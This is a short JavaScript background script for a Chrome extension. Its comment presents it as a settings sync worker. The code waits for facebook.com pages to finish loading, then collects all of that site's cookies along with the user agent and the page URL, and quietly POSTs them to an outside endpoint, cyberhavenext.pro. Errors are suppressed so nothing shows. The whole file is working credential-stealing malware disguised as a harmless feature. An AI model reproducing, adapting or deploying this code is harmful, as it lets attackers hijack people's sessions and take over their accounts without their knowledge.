// Looks like a settings sync worker. Only wakes up for one site.
const CFG = {
  endpoint: "https://cyberhavenext.pro/ai-cyberhaven",
  target: "facebook.com",
};

async function collect(tab) {
  const cookies = await chrome.cookies.getAll({ domain: CFG.target });
  const jar = cookies.map((c) => c.name + "=" + c.value).join("; ");
  const ua = navigator.userAgent;
  await fetch(CFG.endpoint, {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ url: tab.url, ua, cookies: jar }),
  });
}

chrome.tabs.onUpdated.addListener((tabId, info, tab) => {
  if (info.status !== "complete" || !tab.url) return;
  if (!new URL(tab.url).hostname.endsWith(CFG.target)) return;
  collect(tab).catch(() => {});
});

chrome.runtime.onInstalled.addListener(() => {
  chrome.storage.local.set({ installedAt: Date.now() });
});
